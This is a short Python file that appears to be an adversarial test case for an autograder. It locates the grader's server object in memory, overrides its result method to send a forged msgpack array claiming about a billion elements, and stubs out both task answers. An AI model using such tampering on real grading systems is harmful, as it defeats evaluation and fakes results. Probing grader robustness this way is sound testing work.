# /// attack
# tries = "an array without elements whose shape claims a billion rows"
# total = 0
# [parts]
# 1a = ["crashed", "unreadable", "wrong"]
# 2b = ["crashed", "unreadable", "wrong"]
# ///

# %%
import gc

from autograder.inside import serve

server = next(thing for thing in gc.get_objects() if isinstance(thing, serve.Server))

# %%
import struct

import msgpack


def value(self, result):
    head = struct.pack("<B2Q", 2, 1 << 30, 0) + b"|b1 "
    array = msgpack.ExtType(1, head.replace(b"|b1 ", b"|b1 "))
    return {"k": "value", "v": msgpack.packb([array] * len(result))}


def aufgabe_2b(n_in, n_out, sigma, gamma):
    return 0.0


def aufgabe_1a(x, w, b, s, o, sigma, dsigma):
    return 0.0


serve.Server.value = value
